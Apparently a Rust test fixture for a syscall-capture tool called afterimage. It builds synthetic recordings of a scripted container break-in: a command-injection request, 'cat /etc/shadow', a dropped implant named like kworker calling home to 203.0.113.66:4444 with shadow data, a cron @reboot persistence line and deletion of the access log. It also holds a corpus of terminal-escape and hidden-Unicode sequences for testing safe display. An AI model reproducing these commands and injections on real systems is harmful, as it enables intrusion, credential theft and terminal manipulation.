//! A small capture with a story, the same every time: a web server in one container is asked for a shell, the shell reads
//! the password file, runs what it dropped and calls home; a database in another container goes about its work; the ring
//! overflows once. Also a capture whose every name is made of all 256 bytes.

use afterimage_format::{Writer, WriterOptions};
use afterimage_indexer::Session;
use afterimage_model::schema::current_type;
use afterimage_model::{
    Abi, Blob, BootNs, ClockPair, Container, ContainerId, Event, EventFlags, File, FileId,
    FileKind, Flow, Gap, GapCause, Manifest, ProcId, ProcKey, Process, Protocol, Role, Schema,
    Tables, Totals, User, Value,
};
use std::net::SocketAddr;
use std::sync::Arc;
use tempfile::NamedTempFile;

/// The boot clock when the recording begins, ns.
const BEGIN: u64 = 5_000_000_000_000;

/// 2026-03-14 10:22:00 UTC, ns since 1970.
const BEGIN_WALL: i64 = 1_773_483_720_000_000_000;

const MS: u64 = 1_000_000;

/// A capture being told.
pub struct Tale {
    tables: Tables,
    events: Vec<Event>,
    gaps: Vec<Gap>,
    now: u64,
}

/// A capture on disk, and the session that reads it.
pub struct Told {
    /// Removed when dropped.
    pub file: NamedTempFile,
}

impl Told {
    /// Opens it.
    pub fn session(&self) -> Session {
        Session::open(self.file.path()).expect("the capture opens")
    }
}

pub fn text(bytes: impl AsRef<[u8]>) -> Value {
    Value::Bytes(Blob::whole(bytes.as_ref()))
}

fn inet(address: &str) -> Value {
    let SocketAddr::V4(address) = address.parse().expect("an IPv4 address") else {
        panic!("an IPv4 address")
    };
    // struct sockaddr_in: family in host order, port and address in network order.
    let mut raw = vec![2, 0];
    raw.extend(address.port().to_be_bytes());
    raw.extend(address.ip().octets());
    raw.extend([0; 8]);
    text(raw)
}

impl Tale {
    pub fn new() -> Tale {
        Tale {
            tables: Tables::default(),
            events: Vec::new(),
            gaps: Vec::new(),
            now: BEGIN,
        }
    }

    pub fn container(&mut self, name: &str, image: &str) -> ContainerId {
        let id = ContainerId(self.tables.containers.len() as u32 + 1);
        let container = Container {
            id,
            full_id: format!("{:x}", 0xc0ffee_u64 + u64::from(id.0) * 0x1111_1111_1111).repeat(5),
            runtime: "docker".into(),
            name: name.into(),
            image: image.into(),
            first_seen_ns: self.now,
            ..Container::default()
        };
        self.tables.containers.insert(id, Arc::new(container));
        id
    }

    pub fn process(
        &mut self,
        pid: u32,
        parent: Option<ProcId>,
        container: ContainerId,
        exec: u32,
        path: impl AsRef<[u8]>,
        argv: impl AsRef<[u8]>,
    ) -> ProcId {
        let id = ProcId(self.tables.procs.len() as u32 + 1);
        let path = path.as_ref();
        let name = path.rsplit(|b| *b == b'/').next().unwrap_or(path);
        let argv = argv.as_ref().to_vec();
        let process = Process {
            id,
            key: ProcKey {
                pid,
                start_ns: BEGIN + u64::from(pid % 1000) * MS,
                exec,
            },
            parent,
            ppid: parent.map_or(1, |parent| self.tables.procs[&parent].key.pid),
            vpid: pid % 97,
            comm: name[..name.len().min(15)].to_vec(),
            exe_path: path.to_vec(),
            argv_full_len: argv.len() as u64,
            argv,
            cwd: b"/srv".to_vec(),
            loginuid: u32::MAX,
            container: Some(container),
            ..Process::default()
        };
        self.tables.procs.insert(id, Arc::new(process));
        id
    }

    /// Changes a process that was just added.
    pub fn with(&mut self, id: ProcId, change: impl FnOnce(&mut Process)) {
        let row = self.tables.procs.get_mut(&id).expect("a process");
        change(Arc::make_mut(row));
    }

    pub fn file(&mut self, path: impl AsRef<[u8]>) -> FileId {
        let id = FileId(self.tables.files.len() as u32 + 1);
        let file = File {
            id,
            kind: FileKind::File,
            path: path.as_ref().to_vec(),
            dev: 8 << 20 | 1,
            ino: 1000 + u64::from(id.0),
            ..File::default()
        };
        self.tables.files.insert(id, Arc::new(file));
        id
    }

    /// A file of another kind.
    pub fn of_kind(&mut self, kind: FileKind, path: impl AsRef<[u8]>) -> FileId {
        let id = self.file(path);
        let row = self.tables.files.get_mut(&id).expect("a file");
        Arc::make_mut(row).kind = kind;
        id
    }

    pub fn socket(&mut self, local: &str, remote: &str, role: Role) -> FileId {
        let id = FileId(self.tables.files.len() as u32 + 1);
        let flow = Flow {
            protocol: Protocol(6),
            local: local.parse().expect("an address"),
            remote: remote.parse().expect("an address"),
            role,
        };
        let file = File {
            id,
            kind: FileKind::Ipv4,
            flow: Some(flow),
            ..File::default()
        };
        self.tables.files.insert(id, Arc::new(file));
        id
    }

    /// Adds an event; arguments that are not given were not captured.
    pub fn call(
        &mut self,
        name: &str,
        proc: ProcId,
        file: Option<FileId>,
        result: i64,
        args: &[(&str, Value)],
    ) -> &mut Event {
        self.now += 7 * MS + (self.events.len() as u64 * 37 % 11) * 100_000;
        let ty = current_type(name).unwrap_or_else(|| panic!("{name} is in the tables"));
        let row = Schema::current().ty(ty).expect("its row");
        let mut values = vec![Value::Absent; row.args.len()];
        for (arg, value) in args {
            let at = row
                .arg_index(arg)
                .unwrap_or_else(|| panic!("{name} has {arg}"));
            values[at] = value.clone();
        }
        let mut flags = EventFlags::default();
        if !row.is_syscall {
            flags.set(EventFlags::NO_RESULT);
        }
        self.events.push(Event {
            time: BootNs(self.now),
            cpu: (self.events.len() % 2) as u16,
            seq: self.events.len() as u64 / 2,
            ty,
            abi: Abi::x86_64,
            flags,
            tid: self.tables.procs[&proc].key.pid,
            proc,
            file,
            result,
            latency_ns: 0,
            args: values.into_iter().collect(),
        });
        let last = self.events.len() - 1;
        &mut self.events[last]
    }

    pub fn wait(&mut self, ms: u64) {
        self.now += ms * MS;
    }

    pub fn lose(&mut self, count: Option<u64>, ms: u64) {
        self.gaps.push(Gap {
            cause: GapCause::RingFull,
            start: BootNs(self.now),
            end: BootNs(self.now + ms * MS),
            cpu: Some(1),
            count,
            first_seq: None,
            detail: "ring of 256 KiB".into(),
        });
        self.now += ms * MS;
    }

    /// Writes it to a file, sealed.
    pub fn tell(self) -> Told {
        let manifest = Manifest {
            capture_id: "5a".repeat(16),
            tool: "afterimage 0.1.0".into(),
            host: "edge-7".into(),
            kernel: "6.12.0-amd64 #1 SMP".into(),
            machine: "x86_64".into(),
            cpus: 2,
            clock: ClockPair {
                boot_ns: BEGIN,
                mono_ns: BEGIN,
                real_ns: BEGIN_WALL,
            },
            scope: "containers web, db".into(),
            coverage: vec!["System calls of 64-bit and 32-bit programs.".into()],
            not_covered: vec!["Work submitted through io_uring.".into()],
            ..Manifest::default()
        };
        let file = NamedTempFile::new().expect("a temporary file");
        let out = file.reopen().expect("the same file");
        let mut writer = Writer::new(out, &manifest, Schema::current(), WriterOptions::default())
            .expect("a writer");
        let written = self.events.len() as u64;
        let dropped: u64 = self.gaps.iter().filter_map(|gap| gap.count).sum();
        for event in self.events {
            writer.push(event, &self.tables).expect("an event");
        }
        for gap in &self.gaps {
            writer.gap(gap).expect("a gap");
        }
        writer
            .state(BootNs(self.now), &self.tables)
            .expect("a state");
        let totals = Totals {
            offered: written + dropped,
            written,
            dropped,
            ..Totals::default()
        };
        writer.seal(&totals, &self.tables).expect("a seal");
        Told { file }
    }
}

/// The break-in.
pub fn break_in() -> Told {
    let mut t = Tale::new();
    let web = t.container("web", "nginx:1.25");
    let db = t.container("db", "postgres:16");
    for (container, uid, name) in [(web, 0, "root"), (web, 101, "nginx"), (db, 999, "postgres")] {
        let user = User {
            container: Some(container),
            uid,
            name: name.into(),
            ..User::default()
        };
        t.tables
            .users
            .insert((Some(container), uid), Arc::new(user));
    }
    let master = t.process(
        4100,
        None,
        web,
        0,
        "/usr/sbin/nginx",
        "nginx\0-g\0daemon off;\0",
    );
    let worker = t.process(
        4120,
        Some(master),
        web,
        0,
        "/usr/sbin/nginx",
        "nginx: worker process\0",
    );
    t.with(worker, |p| (p.uid, p.euid) = (101, 101));
    let postgres = t.process(
        4200,
        None,
        db,
        0,
        "/usr/lib/postgresql/16/bin/postgres",
        "postgres\0-D\0/var/lib/postgresql/data\0",
    );
    t.with(postgres, |p| (p.uid, p.euid) = (999, 999));

    t.call("container_start", master, None, 0, &[("id", text("web"))]);
    t.call("container_start", postgres, None, 0, &[("id", text("db"))]);
    let listener = t.socket("10.0.0.2:80", "0.0.0.0:0", Role::Server);
    t.call(
        "socket",
        master,
        Some(listener),
        6,
        &[("domain", Value::Num(2)), ("type", Value::Num(1))],
    );
    t.call(
        "bind",
        master,
        Some(listener),
        0,
        &[
            ("fd", Value::Num(6)),
            ("addr", inet("10.0.0.2:80")),
            ("addrlen", Value::Num(16)),
        ],
    );
    t.call(
        "listen",
        master,
        Some(listener),
        0,
        &[("fd", Value::Num(6)), ("backlog", Value::Num(511))],
    );

    let wal = t.file("/var/lib/postgresql/data/pg_wal/000000010000000000000001");
    let index = t.file("/usr/share/nginx/html/index.html");
    for n in 0..6u16 {
        t.wait(120);
        let client = t.socket(
            "10.0.0.2:80",
            &format!("198.51.100.{}:{}", 10 + n % 3, 40_000 + n),
            Role::Server,
        );
        t.call(
            "accept4",
            worker,
            Some(client),
            9,
            &[("fd", Value::Num(6)), ("addr", inet("198.51.100.10:40000"))],
        );
        let request = "GET / HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: curl/8.5\r\n\r\n";
        t.call(
            "read",
            worker,
            Some(client),
            request.len() as i64,
            &[
                ("fd", Value::Num(9)),
                ("buf", text(request)),
                ("count", Value::Num(1024)),
            ],
        );
        t.call(
            "openat",
            worker,
            Some(index),
            10,
            &[
                ("dirfd", Value::Num(-100)),
                ("path", text("/usr/share/nginx/html/index.html")),
                ("flags", Value::Num(0o4000)),
            ],
        );
        let page = "HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello";
        t.call(
            "write",
            worker,
            Some(client),
            page.len() as i64,
            &[
                ("fd", Value::Num(9)),
                ("buf", text(page)),
                ("count", Value::Num(page.len() as i64)),
            ],
        );
        t.call("fsync", postgres, Some(wal), 0, &[("fd", Value::Num(3))]);
    }

    t.wait(300);
    let evil = t.socket("10.0.0.2:80", "203.0.113.66:51515", Role::Server);
    t.call(
        "accept4",
        worker,
        Some(evil),
        11,
        &[("fd", Value::Num(6)), ("addr", inet("203.0.113.66:51515"))],
    );
    let request =
        "GET /cgi-bin/status?host=;sh HTTP/1.1\r\nHost: shop.example\r\nX-\u{1b}[2J: 1\r\n\r\n";
    t.call(
        "read",
        worker,
        Some(evil),
        request.len() as i64,
        &[
            ("fd", Value::Num(11)),
            ("buf", text(request)),
            ("count", Value::Num(1024)),
        ],
    );
    let child = t.process(
        4711,
        Some(worker),
        web,
        0,
        "/usr/sbin/nginx",
        "nginx: worker process\0",
    );
    t.call(
        "clone_child",
        worker,
        None,
        0,
        &[("parent_tid", Value::Num(4120)), ("pid", Value::Num(4711))],
    );
    let shell = t.process(
        4711,
        Some(worker),
        web,
        1,
        "/usr/bin/dash",
        "sh\0-c\0cat /etc/shadow; /tmp/.cache/kworker\0",
    );
    t.call(
        "execve",
        shell,
        None,
        0,
        &[
            ("path", text("/bin/sh")),
            (
                "argv",
                text("sh\0-c\0cat /etc/shadow; /tmp/.cache/kworker\0"),
            ),
        ],
    );
    let _ = child;
    t.lose(Some(312), 400);

    let cat = t.process(
        4712,
        Some(shell),
        web,
        1,
        "/usr/bin/cat",
        "cat\0/etc/shadow\0",
    );
    t.call(
        "execve",
        cat,
        None,
        0,
        &[
            ("path", text("/usr/bin/cat")),
            ("argv", text("cat\0/etc/shadow\0")),
        ],
    );
    t.call(
        "openat",
        cat,
        None,
        -2,
        &[
            ("dirfd", Value::Num(-100)),
            ("path", text("/usr/lib/locale/locale-archive")),
            ("flags", Value::Num(0)),
        ],
    );
    let shadow = t.file("/etc/shadow");
    t.call(
        "openat",
        cat,
        Some(shadow),
        3,
        &[
            ("dirfd", Value::Num(-100)),
            ("path", text("/etc/shadow")),
            ("flags", Value::Num(0)),
        ],
    );
    let secret = "root:$y$j9T$7h:19800:0:99999:7:::\nwww-data:*:19800:0:99999:7:::\n";
    t.call(
        "read",
        cat,
        Some(shadow),
        secret.len() as i64,
        &[
            ("fd", Value::Num(3)),
            ("buf", text(secret)),
            ("count", Value::Num(131_072)),
        ],
    );
    let dropped = t.file("/tmp/.cache/kworker");
    t.call(
        "openat",
        shell,
        Some(dropped),
        4,
        &[
            ("dirfd", Value::Num(-100)),
            ("path", text("/tmp/.cache/kworker")),
            ("flags", Value::Num(0o1101)),
            ("mode", Value::Num(0o755)),
        ],
    );
    let cut = Value::Bytes(Blob {
        bytes: b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0>\0".to_vec(),
        full_len: 48_128,
    });
    t.call(
        "write",
        shell,
        Some(dropped),
        48_128,
        &[
            ("fd", Value::Num(4)),
            ("buf", cut),
            ("count", Value::Num(48_128)),
        ],
    )
    .flags
    .set(EventFlags::CUT);
    let implant = t.process(
        4713,
        Some(shell),
        web,
        1,
        "/tmp/.cache/kworker",
        "[kworker/0:1]\0",
    );
    t.with(implant, |p| p.exe_flags = Process::EXE_UPPER);
    t.call(
        "execve",
        implant,
        None,
        0,
        &[
            ("path", text("/tmp/.cache/kworker")),
            ("argv", text("[kworker/0:1]\0")),
        ],
    );
    let home = t.socket("10.0.0.2:48122", "203.0.113.66:4444", Role::Client);
    t.call(
        "connect",
        implant,
        Some(home),
        -111,
        &[
            ("fd", Value::Num(3)),
            ("addr", inet("203.0.113.66:4444")),
            ("addrlen", Value::Num(16)),
        ],
    );
    t.wait(200);
    t.call(
        "connect",
        implant,
        Some(home),
        0,
        &[
            ("fd", Value::Num(3)),
            ("addr", inet("203.0.113.66:4444")),
            ("addrlen", Value::Num(16)),
        ],
    );
    t.call(
        "sendto",
        implant,
        Some(home),
        24,
        &[
            ("fd", Value::Num(3)),
            ("buf", text("id=web;shadow=root:$y$j9")),
            ("size", Value::Num(24)),
        ],
    );
    let cron = t.file("/var/spool/cron/crontabs/root");
    t.call(
        "openat",
        implant,
        None,
        -13,
        &[
            ("dirfd", Value::Num(-100)),
            ("path", text("/etc/cron.d/x")),
            ("flags", Value::Num(0o101)),
            ("mode", Value::Num(0o644)),
        ],
    );
    t.call(
        "openat",
        implant,
        Some(cron),
        5,
        &[
            ("dirfd", Value::Num(-100)),
            ("path", text("/proc/self/root/var/spool/cron/crontabs/root")),
            ("flags", Value::Num(0o2001)),
        ],
    )
    .flags
    .set(EventFlags::CLAIM_DIFFERS);
    t.call(
        "write",
        implant,
        Some(cron),
        38,
        &[
            ("fd", Value::Num(5)),
            ("buf", text("@reboot /tmp/.cache/kworker >/dev/null\n")),
            ("count", Value::Num(39)),
        ],
    );
    t.call(
        "unlinkat",
        shell,
        None,
        0,
        &[
            ("dirfd", Value::Num(-100)),
            ("path", text("/var/log/nginx/access.log")),
            ("flags", Value::Num(0)),
        ],
    );
    t.call(
        "procexit",
        shell,
        None,
        0,
        &[("status", Value::Num(0)), ("signal", Value::Num(0))],
    );
    for _ in 0..3 {
        t.wait(150);
        t.call("fsync", postgres, Some(wal), 0, &[("fd", Value::Num(3))]);
    }
    t.call("container_stop", master, None, 0, &[("id", text("web"))]);
    t.tell()
}

/// Every byte in every name there is.
pub fn hostile() -> Told {
    let mut t = Tale::new();
    let all: Vec<u8> = (0..=255).collect();
    let unicode: String =
        "\u{85}\u{9b}31m\u{202e}\u{2066}\u{200b}\u{feff}\u{e0001}\u{20d0}é検👩\u{200d}💻".repeat(3);
    for name in [
        (0..=127u8).map(char::from).collect::<String>(),
        unicode.clone(),
    ] {
        let container = t.container(&name, &name);
        for chunk in all.chunks(15).chain([unicode.as_bytes(), &all[..]]) {
            let path = [
                b"/".as_slice(),
                &chunk
                    .iter()
                    .copied()
                    .filter(|b| *b != b'/')
                    .collect::<Vec<_>>(),
            ]
            .concat();
            let pid = 100 + t.tables.procs.len() as u32;
            let process = t.process(pid, None, container, 1, &path, chunk);
            let file = t.file(&path);
            t.call(
                "openat",
                process,
                Some(file),
                -13,
                &[
                    ("dirfd", Value::Num(-100)),
                    ("path", text(chunk)),
                    ("flags", Value::Num(0)),
                ],
            );
            t.call(
                "read",
                process,
                Some(file),
                chunk.len() as i64,
                &[
                    ("fd", Value::Num(3)),
                    ("buf", text(chunk)),
                    ("count", Value::Num(1024)),
                ],
            );
            t.call(
                "execve",
                process,
                Some(file),
                0,
                &[("path", text(chunk)), ("argv", text(chunk))],
            );
            t.call(
                "unlinkat",
                process,
                Some(file),
                0,
                &[("dirfd", Value::Num(3)), ("path", text(chunk))],
            );
            t.call(
                "connect",
                process,
                Some(file),
                0,
                &[("fd", Value::Num(3)), ("addr", text(chunk))],
            );
            t.call(
                "container_start",
                process,
                None,
                0,
                &[("id", text(chunk)), ("cgroup", text(chunk))],
            );
        }
    }
    // What is said over a connection, a pipe and a terminal, and stands in an environment.
    let container = t.container("said", "said");
    let shell = t.process(900, None, container, 1, "/bin/sh", "sh\0");
    let env: Vec<u8> = corpus().join(&b"=1\0X"[..]);
    t.with(shell, |row| row.env = env);
    let places = [
        t.socket("10.0.0.1:4000", "10.0.0.2:80", Role::Client),
        t.of_kind(FileKind::Pipe, "pipe:[7]"),
        t.of_kind(FileKind::Char, "/dev/pts/0"),
    ];
    for file in places {
        for sequence in corpus() {
            let request = [
                b"GET /",
                &sequence[..],
                b" HTTP/1.1\r\nHost: ",
                &sequence,
                b"\r\n\r\n",
            ]
            .concat();
            for (call, said) in [("read", &sequence), ("write", &request)] {
                let args = [
                    ("fd", Value::Num(0)),
                    ("buf", text(said)),
                    ("count", Value::Num(4096)),
                ];
                t.call(call, shell, Some(file), said.len() as i64, &args);
            }
        }
    }
    t.lose(None, 5);
    t.gaps[0].detail = "\u{1b}]0;owned\u{7}".into();
    t.tell()
}

/// Sequences that terminals act on: control functions of seven and eight bits, with parameters, strings of commands, single
/// characters, charsets, modes, reports, and characters that reorder or hide text.
pub fn corpus() -> Vec<Vec<u8>> {
    let mut all: Vec<Vec<u8>> = (0..32u8).chain(127..160).map(|byte| vec![byte]).collect();
    all.extend(
        (0x80..0xa0u32)
            .filter_map(char::from_u32)
            .map(|c| c.to_string().into_bytes()),
    );
    for introducer in [&b"\x1b["[..], b"\x9b", "\u{9b}".as_bytes()] {
        all.extend((0x40..0x7fu8).map(|last| [introducer, &[last]].concat()));
    }
    for parameters in [
        "?1049h", "?25l", "2J", "6n", "c", ">c", "31;1m", "21t", "?1000h", "!p", "0;0H", "38;5;1m",
        "4;1r",
    ] {
        all.push(format!("\x1b[{parameters}").into_bytes());
    }
    for string in [
        "]0;title",
        "]52;c;aGk=",
        "]8;;http://x",
        "]4;1;?",
        "P$qm",
        "P+q544e",
        "_Gx",
        "^x",
        "Xx",
        "]1337;File=:",
    ] {
        for end in ["\x07", "\x1b\\", "\u{9c}", ""] {
            all.push(format!("\x1b{string}{end}").into_bytes());
        }
    }
    all.extend(
        b"78DEHMNOZc=>(0)B#8%G<"
            .iter()
            .map(|last| vec![0x1b, *last]),
    );
    let hidden = [
        0x200b..=0x200f,
        0x202a..=0x202e,
        0x2060..=0x2064,
        0x2066..=0x2069,
        0xfe00..=0xfe0f,
        0xfeff..=0xfeff,
        0xfff9..=0xfffb,
        0xe0001..=0xe0010,
    ];
    let hidden = hidden.into_iter().flatten().filter_map(char::from_u32);
    all.extend(hidden.map(|c| format!("a{c}b").into_bytes()));
    all
}

/// Nothing happened, and nobody was there.
pub fn empty() -> Told {
    Tale::new().tell()
}
